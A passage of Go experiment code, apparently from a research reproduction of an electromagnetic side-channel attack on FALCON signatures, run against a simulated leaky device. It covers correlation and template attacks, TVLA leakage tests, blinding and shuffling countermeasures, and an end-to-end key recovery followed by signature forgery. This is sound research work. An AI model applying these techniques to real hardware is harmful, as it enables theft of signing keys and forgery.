// BlindingResult extends the countermeasure study (§V.B) with two
// masking-style blinds implemented in the device model.
type BlindingResult struct {
	Countermeasure string
	SignOK         bool // sign bit still recoverable
	ExpOK          bool // exponent still recoverable
	MantOK         bool // mantissa still recoverable
}

// CountermeasureBlinding attacks one value of the same key under three
// device configurations: unprotected, exponent-blinded and
// multiplicatively blinded. Exponent blinding (random power-of-two
// scaling) only touches the exponent field, so the mantissa and sign
// remain exposed — a partial countermeasure the experiment makes visible;
// multiplicative blinding decorrelates the mantissa predictions as well.
func CountermeasureBlinding(s Setup) ([]BlindingResult, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	truth := priv.FFTOfF()[s.Coeff].Re
	configs := []struct {
		name        string
		expB, multB bool
	}{
		{"none", false, false},
		{"exponent-blinding", true, false},
		{"multiplicative-blinding", false, true},
	}
	out := make([]BlindingResult, 0, len(configs))
	for _, c := range configs {
		dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
			emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+1)
		dev.ExponentBlind = c.expB
		dev.MultBlind = c.multB
		obs, err := emleak.NewCampaign(dev, s.Seed+2).CollectCoefficient(s.Traces, s.Coeff)
		if err != nil {
			return nil, err
		}
		res, err := core.AttackValue(obs, 0, core.PartRe, core.Config{})
		if err != nil {
			return nil, err
		}
		const mantMask = (uint64(1) << 52) - 1
		out = append(out, BlindingResult{
			Countermeasure: c.name,
			SignOK:         res.Value.Sign() == truth.Sign(),
			ExpOK:          res.Value.BiasedExp() == truth.BiasedExp(),
			MantOK:         uint64(res.Value)&mantMask == uint64(truth)&mantMask,
		})
	}
	return out, nil
}

// TemplateResult compares the profiled (template) attack of §V.A against
// the unprofiled CPA on the same candidate pool across attack budgets.
type TemplateResult struct {
	TemplateCorrectRank int // rank of the true value at the largest budget
	CPACorrectRank      int // rank under plain correlation at the largest budget
	ProfilingTraces     int
	AttackTraces        int
	// MinTracesTemplate / MinTracesCPA are the smallest swept budgets at
	// which each distinguisher ranks the truth first (0 = never within the
	// sweep) — the profiled attack should win at equal or smaller budgets.
	MinTracesTemplate int
	MinTracesCPA      int
}

// TemplateVsCPA profiles a clone device (known key) and then attacks the
// victim with both distinguishers over a candidate pool containing the
// true low mantissa half and random decoys.
func TemplateVsCPA(s Setup, attackTraces int) (*TemplateResult, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	truth := priv.FFTOfF()[s.Coeff].Re
	_, d := truth.MantissaHalves()

	// Profiling campaign on the clone (same key is the strongest template
	// model; a different-key clone profiles the same HW classes).
	cloneDev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+10)
	profObs, err := emleak.NewCampaign(cloneDev, s.Seed+11).CollectCoefficient(s.Traces, s.Coeff)
	if err != nil {
		return nil, err
	}
	// Build the template against coefficient 0 of the cropped campaign.
	cropSecret := []fft.Cplx{priv.FFTOfF()[s.Coeff]}
	tpl, err := core.ProfileTemplate(profObs, cropSecret, 0, core.PartRe, fpr.OpMulLL)
	if err != nil {
		return nil, err
	}

	// Attack campaign on the victim with fewer traces.
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+20)
	obs, err := emleak.NewCampaign(dev, s.Seed+21).CollectCoefficient(attackTraces, s.Coeff)
	if err != nil {
		return nil, err
	}
	pool := []uint64{d}
	r := rng.New(s.Seed + 30)
	for len(pool) < 64 {
		v := uint64(r.Intn(1 << 25))
		if v != d {
			pool = append(pool, v)
		}
	}
	rank := func(g []cpa.Guess) int {
		for i, x := range g {
			if pool[x.Index] == d {
				return i + 1
			}
		}
		return len(g)
	}
	res := &TemplateResult{ProfilingTraces: s.Traces, AttackTraces: attackTraces}
	for _, budget := range []int{10, 25, 50, 100, 200, 400, attackTraces} {
		if budget > attackTraces {
			continue
		}
		sub := obs[:budget]
		tr := rank(core.TemplateAttackLowHalf(sub, 0, core.PartRe, pool, tpl))
		cr := rank(core.NaiveMantissaAttack(sub, 0, core.PartRe, pool))
		if tr == 1 && res.MinTracesTemplate == 0 {
			res.MinTracesTemplate = budget
		}
		if cr == 1 && res.MinTracesCPA == 0 {
			res.MinTracesCPA = budget
		}
		if budget == attackTraces || budget == 400 {
			res.TemplateCorrectRank = tr
			res.CPACorrectRank = cr
		}
	}
	return res, nil
}
