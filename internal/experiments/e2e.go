package experiments

import (
	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/rng"
)

// E2EResult summarizes a whole-key extraction and forgery run — the
// paper's ultimate claim (§III.A, §IV): the adversary recovers the entire
// signing key and successfully signs arbitrary messages.
type E2EResult struct {
	N               int
	Traces          int
	NoiseSigma      float64
	Recovered       bool
	FExact          bool // recovered f equals the victim's f coefficient-wise
	ForgeryVerified bool
	MinPruneCorr    float64
	EscalatedValues int
	FailureDetected bool // recovery failed but was *reported* (no silent bad key)
	FailureMessage  string
	SignificantAll  bool
}

// EndToEnd runs the complete pipeline: victim keygen, known-plaintext EM
// campaign, per-coefficient extend-and-prune extraction, FFT inversion,
// NTRU re-solve and forgery verification against the victim's public key.
func EndToEnd(n, traces int, noise float64, seed uint64) (*E2EResult, error) {
	s := Setup{N: n, NoiseSigma: noise, Seed: seed, Traces: traces}
	v, err := newVictim(s)
	if err != nil {
		return nil, err
	}
	obs, err := emleak.NewCampaign(v.dev, s.Seed+2).Collect(traces)
	if err != nil {
		return nil, err
	}
	res := &E2EResult{N: n, Traces: traces, NoiseSigma: noise}
	recovered, report, err := core.RecoverKey(obs, v.pub, core.Config{})
	if report != nil {
		res.MinPruneCorr = report.MinPrune
		res.SignificantAll = report.Significant
		for _, vr := range report.Values {
			if vr.Escalated {
				res.EscalatedValues++
			}
		}
	}
	if err != nil {
		res.FailureDetected = true
		res.FailureMessage = err.Error()
		return res, nil
	}
	res.Recovered = true
	res.FExact = true
	for i := range recovered.Fs {
		if recovered.Fs[i] != v.priv.Fs[i] {
			res.FExact = false
		}
	}
	msg := []byte("message the victim never signed")
	sig, err := recovered.Sign(msg, rng.New(seed+77))
	if err == nil && v.pub.Verify(msg, sig) == nil {
		res.ForgeryVerified = true
	}
	return res, nil
}
