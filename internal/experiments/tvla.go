package experiments

import (
	"falcondown/internal/codec"
	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/rng"
)

// TVLAResult is a fixed-vs-random leakage assessment of the attacked
// multiplication window: Welch t-values per sample, with the conventional
// |t| > 4.5 leakage criterion. It certifies the paper's premise — the
// floating-point multiplier's activity is input-dependent and therefore
// key-dependent — independently of any specific attack.
type TVLAResult struct {
	TValues   []float64
	MaxAbsT   float64
	MaxAtOp   int // micro-op slot of the peak
	LeakyOps  int // samples above the threshold
	Traces    int
	Threshold float64
}

// TVLA runs the assessment: population A replays one fixed hashed message
// against the device; population B draws fresh random messages. Any
// sample whose distribution differs between the populations leaks
// input-dependent state.
func TVLA(s Setup) (*TVLAResult, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+1)

	fixedPoint := codec.HashToPoint([]byte("tvla-fixed-salt"), []byte("fixed"), s.N)
	fixedFFT := fft.FFTUint16Centered(fixedPoint)
	camp := emleak.NewCampaign(dev, s.Seed+2)

	w := cpa.NewWelch(emleak.SamplesPerCoeff)
	base := s.Coeff * emleak.SamplesPerCoeff
	for i := 0; i < s.Traces; i++ {
		if i%2 == 0 {
			o, err := dev.ObserveMul(fixedFFT)
			if err != nil {
				return nil, err
			}
			w.AddA(o.Trace.Samples[base : base+emleak.SamplesPerCoeff])
		} else {
			o, err := camp.Next()
			if err != nil {
				return nil, err
			}
			w.AddB(o.Trace.Samples[base : base+emleak.SamplesPerCoeff])
		}
	}
	tv := w.TValues()
	maxT, at := cpa.MaxAbs(tv)
	leaky := 0
	for _, v := range tv {
		if v > cpa.TVLAThreshold || v < -cpa.TVLAThreshold {
			leaky++
		}
	}
	return &TVLAResult{
		TValues:   tv,
		MaxAbsT:   maxT,
		MaxAtOp:   at,
		LeakyOps:  leaky,
		Traces:    s.Traces,
		Threshold: cpa.TVLAThreshold,
	}, nil
}
