// Package experiments regenerates every figure and table of the paper's
// evaluation section (see DESIGN.md §4 for the experiment index). Each
// function is deterministic in its seed, returns the plotted series as
// plain data, and is shared by cmd/figures, the root benchmarks, and the
// test suite; EXPERIMENTS.md records the paper-vs-measured comparison.
package experiments

import (
	"fmt"
	"io"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// Setup describes a victim + campaign configuration shared by the
// experiments. The defaults mirror the calibration described in DESIGN.md:
// degree 64 (structurally identical to FALCON-512's arithmetic — the
// paper itself notes the attack is degree-agnostic), Hamming-weight
// leakage, and a noise level that lands the sign-bit attack near the
// paper's ~9k traces.
type Setup struct {
	N          int
	NoiseSigma float64
	Seed       uint64
	Traces     int
	Coeff      int // attacked coefficient for single-coefficient figures
}

// DefaultSetup returns the calibrated configuration.
func DefaultSetup() Setup {
	return Setup{N: 64, NoiseSigma: 8, Seed: 1, Traces: 10000, Coeff: 5}
}

// victim bundles the generated key and device.
type victim struct {
	priv *falcon.PrivateKey
	pub  *falcon.PublicKey
	dev  *emleak.Device
}

func newVictim(s Setup) (*victim, error) {
	priv, pub, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, fmt.Errorf("experiments: keygen: %w", err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+1)
	return &victim{priv: priv, pub: pub, dev: dev}, nil
}

// collectCoeff gathers a cropped single-coefficient campaign.
func (v *victim) collectCoeff(s Setup) ([]emleak.Observation, error) {
	return emleak.NewCampaign(v.dev, s.Seed+2).CollectCoefficient(s.Traces, s.Coeff)
}

// writeCSV emits rows of comma-separated values.
func writeCSV(w io.Writer, header []string, rows [][]float64) error {
	for i, h := range header {
		if i > 0 {
			if _, err := io.WriteString(w, ","); err != nil {
				return err
			}
		}
		if _, err := io.WriteString(w, h); err != nil {
			return err
		}
	}
	if _, err := io.WriteString(w, "\n"); err != nil {
		return err
	}
	for _, row := range rows {
		for i, v := range row {
			if i > 0 {
				if _, err := io.WriteString(w, ","); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "%g", v); err != nil {
				return err
			}
		}
		if _, err := io.WriteString(w, "\n"); err != nil {
			return err
		}
	}
	return nil
}

// truth returns the attacked secret value of the setup's coefficient.
func (v *victim) truth(coeff int, part core.Part) uint64 {
	z := v.priv.FFTOfF()[coeff]
	if part == core.PartRe {
		return uint64(z.Re)
	}
	return uint64(z.Im)
}
