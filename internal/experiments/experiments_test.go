package experiments

import (
	"strings"
	"testing"
)

// tinySetup keeps experiment tests fast; the statistical shape is the
// same as the full-scale runs in cmd/figures.
func tinySetup() Setup {
	return Setup{N: 8, NoiseSigma: 2, Seed: 3, Traces: 1500, Coeff: 1}
}

func TestFig3ExampleTrace(t *testing.T) {
	res, err := Fig3ExampleTrace(tinySetup())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Samples) != 11 {
		t.Fatalf("window has %d samples, want 11", len(res.Samples))
	}
	if len(res.Regions) == 0 {
		t.Fatal("no regions")
	}
	last := 0
	for _, r := range res.Regions {
		if r.Start != last {
			t.Fatalf("region %q starts at %d, want %d", r.Label, r.Start, last)
		}
		last = r.End
	}
	if last != 11 {
		t.Fatalf("regions cover %d samples", last)
	}
	var sb strings.Builder
	if err := res.Render(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{"mantissa partial products", "exponent addition", "sign computation"} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered trace missing %q", want)
		}
	}
}

func TestFig4SignTime(t *testing.T) {
	res, err := Fig4CorrelationVsTime(tinySetup(), Fig4Sign)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Corr) != 2 {
		t.Fatalf("%d guesses", len(res.Corr))
	}
	// The correct sign's peak must exceed the wrong sign's everywhere the
	// leak lives, and the peak must sit at the sign sample (index 9).
	correct := res.Corr[res.CorrectIdx]
	peak, peakAt := -2.0, -1
	for j, c := range correct {
		if c > peak {
			peak, peakAt = c, j
		}
	}
	if peakAt != 9 {
		t.Errorf("sign peak at sample %d, want 9", peakAt)
	}
	if peak < res.Threshold {
		t.Errorf("correct sign not significant: %v < %v", peak, res.Threshold)
	}
}

func TestFig4MantissaMulTies(t *testing.T) {
	// Panel (c): the multiplication-only attack must exhibit its exact
	// false-positive ties.
	res, err := Fig4CorrelationVsTime(tinySetup(), Fig4MantissaMul)
	if err != nil {
		t.Fatal(err)
	}
	if res.ExactTies == 0 {
		t.Fatal("no exact ties — the false-positive phenomenon is missing")
	}
}

func TestFig4MantissaAddResolves(t *testing.T) {
	// Panel (d): rescoring on the addition removes the ties.
	res, err := Fig4CorrelationVsTime(tinySetup(), Fig4MantissaAdd)
	if err != nil {
		t.Fatal(err)
	}
	if res.ExactTies != 0 {
		t.Fatalf("%d ties survive the addition", res.ExactTies)
	}
	correct := res.Corr[res.CorrectIdx]
	peak := -2.0
	for _, c := range correct {
		if c > peak {
			peak = c
		}
	}
	if peak < res.Threshold {
		t.Errorf("correct mantissa not significant after prune")
	}
}

func TestFig4Evolution(t *testing.T) {
	for _, comp := range []Fig4Component{Fig4Exponent, Fig4MantissaAdd} {
		res, err := Fig4CorrelationEvolution(tinySetup(), comp)
		if err != nil {
			t.Fatal(err)
		}
		if res.TracesToSignificance == 0 {
			t.Errorf("%v never reached significance in %d traces", comp, tinySetup().Traces)
		}
		if len(res.TraceCounts) == 0 || len(res.CorrectCorr) != len(res.TraceCounts) {
			t.Fatalf("%v: malformed series", comp)
		}
		// The threshold series must be decreasing in the trace count.
		for i := 1; i < len(res.Threshold); i++ {
			if res.Threshold[i] > res.Threshold[i-1] {
				t.Fatalf("%v: threshold increased", comp)
			}
		}
	}
}

func TestTable1Shape(t *testing.T) {
	rows, err := Table1TracesToSignificance(tinySetup())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows", len(rows))
	}
	byName := map[string]Table1Row{}
	for _, r := range rows {
		byName[r.Component] = r
	}
	// The paper's ordering: the sign bit needs the most traces; the
	// mantissa multiplication never separates from its ties.
	if byName["mantissa-multiplication"].ExactTies == 0 {
		t.Error("mantissa multiplication should report exact ties")
	}
	sign := byName["sign"].TracesToSignificance
	exp := byName["exponent"].TracesToSignificance
	add := byName["mantissa-addition"].TracesToSignificance
	if sign == 0 || exp == 0 || add == 0 {
		t.Fatalf("component did not converge: sign=%d exp=%d add=%d", sign, exp, add)
	}
	if sign < exp || sign < add {
		t.Errorf("paper ordering violated: sign=%d should dominate exp=%d and add=%d", sign, exp, add)
	}
}

func TestEndToEndExperiment(t *testing.T) {
	res, err := EndToEnd(8, 1500, 2, 9)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Recovered || !res.FExact || !res.ForgeryVerified {
		t.Fatalf("end-to-end failed: %+v", res)
	}
}

func TestEndToEndDetectsNoise(t *testing.T) {
	res, err := EndToEnd(8, 60, 1e6, 10)
	if err != nil {
		t.Fatal(err)
	}
	if res.Recovered {
		t.Fatal("recovered a key from pure noise")
	}
	if !res.FailureDetected || res.FailureMessage == "" {
		t.Fatal("failure not reported")
	}
}

func TestNTTvsFFTShape(t *testing.T) {
	s := tinySetup()
	s.Traces = 2000
	res, err := NTTvsFFT(s)
	if err != nil {
		t.Fatal(err)
	}
	if res.NTTTraces == 0 {
		t.Fatal("NTT attack did not converge")
	}
	if res.FFTTraces == 0 {
		t.Fatal("FFT side did not converge")
	}
	// §V.C shape: the NTT secret falls with (much) fewer traces.
	if res.NTTTraces >= res.FFTTraces {
		t.Errorf("NTT (%d) should need fewer traces than FFT (%d)", res.NTTTraces, res.FFTTraces)
	}
}

func TestCountermeasureShuffling(t *testing.T) {
	s := tinySetup()
	s.N = 16
	s.Traces = 1000
	res, err := CountermeasureShuffling(s)
	if err != nil {
		t.Fatal(err)
	}
	if res.BaselineCorrect <= res.ShuffledCorrect {
		t.Errorf("shuffling did not degrade the attack: baseline %d, shuffled %d",
			res.BaselineCorrect, res.ShuffledCorrect)
	}
}

func TestLeakageModelAblation(t *testing.T) {
	s := tinySetup()
	s.Traces = 1200
	rows, err := LeakageModelAblation(s)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows", len(rows))
	}
	if rows[0].Model != "hamming-weight" || !rows[0].Recovered {
		t.Errorf("HW model should recover exactly: %+v", rows[0])
	}
}

func TestNoiseSweepMonotonic(t *testing.T) {
	s := tinySetup()
	rows, err := NoiseSweep(s, []float64{1, 8})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	if !rows[0].Recovered {
		t.Error("low-noise attack failed")
	}
	if rows[0].TracesToSignificance == 0 || rows[1].TracesToSignificance == 0 {
		t.Fatal("sweep did not converge")
	}
	if rows[0].TracesToSignificance > rows[1].TracesToSignificance {
		t.Errorf("more noise should need more traces: %d vs %d",
			rows[0].TracesToSignificance, rows[1].TracesToSignificance)
	}
}

func TestShiftPool(t *testing.T) {
	pool := ShiftPool(0b1010)
	want := map[uint64]bool{0b1010: true, 0b10100: true, 0b101: true}
	for _, w := range []uint64{0b1010, 0b10100, 0b101} {
		found := false
		for _, v := range pool {
			if v == w {
				found = true
			}
		}
		if !found {
			t.Errorf("pool missing %#b", w)
		}
	}
	_ = want
	for _, v := range pool {
		if v >= 1<<25 {
			t.Errorf("out-of-range pool member %#x", v)
		}
	}
}

func TestCountermeasureBlinding(t *testing.T) {
	s := tinySetup()
	s.Traces = 1200
	s.NoiseSigma = 1
	rows, err := CountermeasureBlinding(s)
	if err != nil {
		t.Fatal(err)
	}
	byName := map[string]BlindingResult{}
	for _, r := range rows {
		byName[r.Countermeasure] = r
	}
	if !byName["none"].MantOK || !byName["none"].ExpOK || !byName["none"].SignOK {
		t.Errorf("unprotected device not fully recovered: %+v", byName["none"])
	}
	// The nuanced finding: exponent blinding leaves the mantissa exposed.
	if !byName["exponent-blinding"].MantOK {
		t.Errorf("exponent blinding unexpectedly protected the mantissa")
	}
	if byName["multiplicative-blinding"].MantOK {
		t.Errorf("multiplicative blinding failed to protect the mantissa")
	}
}

func TestTemplateVsCPA(t *testing.T) {
	s := tinySetup()
	s.Traces = 2500
	res, err := TemplateVsCPA(s, 300)
	if err != nil {
		t.Fatal(err)
	}
	// Both distinguishers face shift ties only if the pool contains them;
	// this pool is random decoys, so rank 1 is expected for the template
	// and at worst a small rank for CPA at this noise.
	if res.TemplateCorrectRank > 2 {
		t.Errorf("template rank %d", res.TemplateCorrectRank)
	}
	if res.TemplateCorrectRank > res.CPACorrectRank {
		t.Errorf("profiled attack (%d) ranked worse than CPA (%d)",
			res.TemplateCorrectRank, res.CPACorrectRank)
	}
}

func TestTVLADetectsLeakage(t *testing.T) {
	s := tinySetup()
	s.Traces = 2000
	res, err := TVLA(s)
	if err != nil {
		t.Fatal(err)
	}
	if res.MaxAbsT < res.Threshold {
		t.Fatalf("TVLA found no leakage: max|t| = %.1f", res.MaxAbsT)
	}
	if res.LeakyOps == 0 {
		t.Fatal("no leaky samples flagged")
	}
}
