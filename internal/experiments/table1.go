package experiments

import "fmt"

// Table1Row reports the measurement cost of one attacked component — the
// quantitative headline of the paper's §IV ("the targeted floating-point
// variables can be captured with over 99.99 % probability with around 10k
// measurements"; sign the most expensive at ~9k, exponent and mantissa
// addition ~1k).
type Table1Row struct {
	Component            string
	TracesToSignificance int     // 0 = not reached within the campaign
	CorrAtFullCampaign   float64 // correct guess's correlation at all traces
	ExactTies            int     // unresolvable false positives (mantissa mult)
}

// Table1TracesToSignificance reproduces the per-component measurement
// counts by sweeping the campaign size for each of the four Fig. 4
// components.
func Table1TracesToSignificance(s Setup) ([]Table1Row, error) {
	comps := []Fig4Component{Fig4Sign, Fig4Exponent, Fig4MantissaMul, Fig4MantissaAdd}
	rows := make([]Table1Row, 0, len(comps))
	for _, comp := range comps {
		evo, err := Fig4CorrelationEvolution(s, comp)
		if err != nil {
			return nil, fmt.Errorf("table1 %v: %w", comp, err)
		}
		row := Table1Row{
			Component:            comp.String(),
			TracesToSignificance: evo.TracesToSignificance,
			CorrAtFullCampaign:   evo.CorrectCorr[len(evo.CorrectCorr)-1],
		}
		if comp == Fig4MantissaMul {
			// The multiplication-only attack cannot beat its exact ties;
			// count them from the time-resolved panel.
			tr, err := Fig4CorrelationVsTime(s, comp)
			if err != nil {
				return nil, err
			}
			row.ExactTies = tr.ExactTies
			if row.ExactTies > 0 {
				// Ties never resolve: significance against the *wrong*
				// guesses is unreachable by construction.
				row.TracesToSignificance = 0
			}
		}
		rows = append(rows, row)
	}
	return rows, nil
}
