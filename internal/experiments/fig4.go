package experiments

import (
	"fmt"
	"math/bits"

	"falcondown/internal/core"
	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// Fig4Component selects one of the paper's Fig. 4 panel rows.
type Fig4Component int

// The four attacked quantities of Fig. 4 (a)–(d) / (e)–(h).
const (
	Fig4Sign        Fig4Component = iota // panels (a)/(e)
	Fig4Exponent                         // panels (b)/(f)
	Fig4MantissaMul                      // panels (c)/(g): the naive attack with false positives
	Fig4MantissaAdd                      // panels (d)/(h): extend-and-prune resolution
)

// String names the component.
func (c Fig4Component) String() string {
	switch c {
	case Fig4Sign:
		return "sign"
	case Fig4Exponent:
		return "exponent"
	case Fig4MantissaMul:
		return "mantissa-multiplication"
	case Fig4MantissaAdd:
		return "mantissa-addition"
	}
	return "?"
}

// leakiestOp returns the micro-op slot where the component's leak peaks.
func (c Fig4Component) leakiestOp() fpr.Op {
	switch c {
	case Fig4Sign:
		return fpr.OpMulSign
	case Fig4Exponent:
		return fpr.OpMulExp
	case Fig4MantissaMul:
		return fpr.OpMulLL
	default:
		return fpr.OpMulSum1
	}
}

// fig4Hypotheses builds the guess pool and per-trace prediction function
// for a component, given the victim's ground truth (the paper, too, knows
// the correct value when drawing Fig. 4 — it is marked in red).
type fig4Hypotheses struct {
	labels  []string
	correct int
	predict func(known fpr.FPR, h []float64)
}

func buildFig4Hypotheses(comp Fig4Component, truth fpr.FPR, seed uint64) fig4Hypotheses {
	switch comp {
	case Fig4Sign:
		ts := truth.Sign()
		return fig4Hypotheses{
			labels:  []string{fmt.Sprintf("sign=%d (correct)", ts), fmt.Sprintf("sign=%d", ts^1)},
			correct: 0,
			predict: func(known fpr.FPR, h []float64) {
				sc := known.Sign()
				h[0] = float64(sc ^ ts)
				h[1] = float64(sc ^ ts ^ 1)
			},
		}
	case Fig4Exponent:
		te := truth.BiasedExp()
		nG := 21
		labels := make([]string, nG)
		exps := make([]int, nG)
		for i := 0; i < nG; i++ {
			exps[i] = te - nG/2 + i
			labels[i] = fmt.Sprintf("exp=%#x", exps[i])
			if exps[i] == te {
				labels[i] += " (correct)"
			}
		}
		return fig4Hypotheses{
			labels:  labels,
			correct: nG / 2,
			predict: func(known fpr.FPR, h []float64) {
				bec := known.BiasedExp()
				for i, e := range exps {
					h[i] = float64(bits.OnesCount64(uint64(bec + e - 1023)))
				}
			},
		}
	default:
		_, d := truth.MantissaHalves()
		cHi, _ := truth.MantissaHalves()
		pool := ShiftPool(d)
		correct := 0
		r := rng.New(seed + 99)
		for len(pool) < 21 {
			pool = append(pool, uint64(r.Intn(1<<25)))
		}
		labels := make([]string, len(pool))
		for i, v := range pool {
			labels[i] = fmt.Sprintf("D=%#x", v)
			if i == correct {
				labels[i] += " (correct)"
			}
		}
		if comp == Fig4MantissaMul {
			return fig4Hypotheses{
				labels:  labels,
				correct: correct,
				predict: func(known fpr.FPR, h []float64) {
					_, b := known.MantissaHalves()
					for i, v := range pool {
						h[i] = float64(bits.OnesCount64(b * v))
					}
				},
			}
		}
		return fig4Hypotheses{
			labels:  labels,
			correct: correct,
			predict: func(known fpr.FPR, h []float64) {
				a, b := known.MantissaHalves()
				lh := b * cHi
				for i, v := range pool {
					ll := b * v
					hl := a * v
					h[i] = float64(bits.OnesCount64(lh + hl + (ll >> 25)))
				}
			},
		}
	}
}

// ShiftPool returns d together with every in-range shift of it: the exact
// false-positive family of the multiplication attack.
func ShiftPool(d uint64) []uint64 {
	pool := []uint64{d}
	for v := d << 1; v < 1<<25 && v != 0; v <<= 1 {
		pool = append(pool, v)
	}
	for v := d; v&1 == 0 && v > 1; {
		v >>= 1
		pool = append(pool, v)
	}
	return pool
}

// Fig4TimeResult holds one correlation-vs-time panel: the correlation of
// every tracked guess at every sample of the attacked multiplication
// window, with the 99.99 % confidence band.
type Fig4TimeResult struct {
	Component  Fig4Component
	Labels     []string
	CorrectIdx int
	Corr       [][]float64 // [guess][sample]
	Threshold  float64
	Traces     int
	// ExactTies counts guesses whose peak correlation ties the correct
	// guess's to within 1e-9 — the paper's false positives in panel (c).
	ExactTies int
}

// Fig4CorrelationVsTime reproduces Fig. 4 (a)–(d): correlation traces per
// guess across the multiplication window.
func Fig4CorrelationVsTime(s Setup, comp Fig4Component) (*Fig4TimeResult, error) {
	v, err := newVictim(s)
	if err != nil {
		return nil, err
	}
	obs, err := v.collectCoeff(s)
	if err != nil {
		return nil, err
	}
	truth := fpr.FPR(v.truth(s.Coeff, core.PartRe))
	hyp := buildFig4Hypotheses(comp, truth, s.Seed)
	slot := core.PartRe.PrimaryWindow()
	base := slot * emleak.OpsPerMul
	eng := cpa.NewMultiEngine(len(hyp.labels), emleak.OpsPerMul)
	h := make([]float64, len(hyp.labels))
	for _, o := range obs {
		hyp.predict(core.PartRe.KnownOperand(o.CFFT[0]), h)
		eng.Update(h, o.Trace.Samples[base:base+emleak.OpsPerMul])
	}
	corr := eng.Corr()
	res := &Fig4TimeResult{
		Component:  comp,
		Labels:     hyp.labels,
		CorrectIdx: hyp.correct,
		Corr:       corr,
		Threshold:  cpa.Threshold9999(len(obs)),
		Traces:     len(obs),
	}
	peak := func(g int) float64 {
		best := corr[g][0]
		for _, r := range corr[g] {
			if r > best {
				best = r
			}
		}
		return best
	}
	correctPeak := peak(hyp.correct)
	for g := range corr {
		if g != hyp.correct && correctPeak-peak(g) < 1e-9 {
			res.ExactTies++
		}
	}
	return res, nil
}

// Fig4EvolutionResult holds one correlation-evolution panel (Fig. 4 e–h):
// the correct guess's correlation, the strongest wrong guess and the
// confidence threshold as functions of the trace count.
type Fig4EvolutionResult struct {
	Component            Fig4Component
	TraceCounts          []int
	CorrectCorr          []float64
	BestWrong            []float64
	Threshold            []float64
	TracesToSignificance int // 0 when never reached
}

// Fig4CorrelationEvolution reproduces Fig. 4 (e)–(h) at the component's
// leakiest sample, sweeping the number of traces and recording when the
// correct guess becomes statistically significant at 99.99 %.
func Fig4CorrelationEvolution(s Setup, comp Fig4Component) (*Fig4EvolutionResult, error) {
	v, err := newVictim(s)
	if err != nil {
		return nil, err
	}
	obs, err := v.collectCoeff(s)
	if err != nil {
		return nil, err
	}
	truth := fpr.FPR(v.truth(s.Coeff, core.PartRe))
	hyp := buildFig4Hypotheses(comp, truth, s.Seed)
	slot := core.PartRe.PrimaryWindow()
	sampleAt := emleak.SampleIndex(0, slot, int(comp.leakiestOp()))

	eng := cpa.NewEngine(len(hyp.labels))
	h := make([]float64, len(hyp.labels))
	step := len(obs) / 200
	if step < 10 {
		step = 10
	}
	if step > 250 {
		step = 250
	}
	res := &Fig4EvolutionResult{Component: comp}
	for i, o := range obs {
		hyp.predict(core.PartRe.KnownOperand(o.CFFT[0]), h)
		eng.Update(h, o.Trace.Samples[sampleAt])
		if (i+1)%step == 0 || i == len(obs)-1 {
			corr := eng.Corr()
			correct := corr[hyp.correct]
			wrong := -2.0
			for g, r := range corr {
				if g != hyp.correct && r > wrong {
					wrong = r
				}
			}
			thr := cpa.Threshold9999(i + 1)
			res.TraceCounts = append(res.TraceCounts, i+1)
			res.CorrectCorr = append(res.CorrectCorr, correct)
			res.BestWrong = append(res.BestWrong, wrong)
			res.Threshold = append(res.Threshold, thr)
			if res.TracesToSignificance == 0 && correct > thr && correct > wrong {
				res.TracesToSignificance = i + 1
			}
		}
	}
	return res, nil
}
