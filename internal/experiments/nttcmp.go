package experiments

import (
	"math/bits"

	"falcondown/internal/cpa"
	"falcondown/internal/ntt"
	"falcondown/internal/rng"
)

// NTTvsFFTResult quantifies the paper's §V.C discussion: under identical
// noise and the same Hamming-weight CPA, how many traces does it take to
// recover a secret operand of an NTT butterfly (integer multiply-reduce
// mod q) versus a coefficient of the floating-point FFT multiplier?
//
// The paper conjectures NTT leaks much harder because the modular
// reduction injects non-linearity, citing single-trace NTT attacks; the
// FFT attack needed ~10k. The reproduction keeps the methodology fixed
// (same distinguisher, same noise) and compares trace counts.
type NTTvsFFTResult struct {
	NoiseSigma    float64
	NTTTraces     int // traces to 99.99 % significance for the NTT secret
	FFTTraces     int // traces for the hardest FFT component (from Table 1)
	NTTCorrAtFull float64
}

// NTTvsFFT runs the comparison. The NTT victim computes one forward
// butterfly v·s mod q (plus the add/sub outputs) with a fixed secret
// twiddle-times-coefficient s and adversary-known v drawn uniformly.
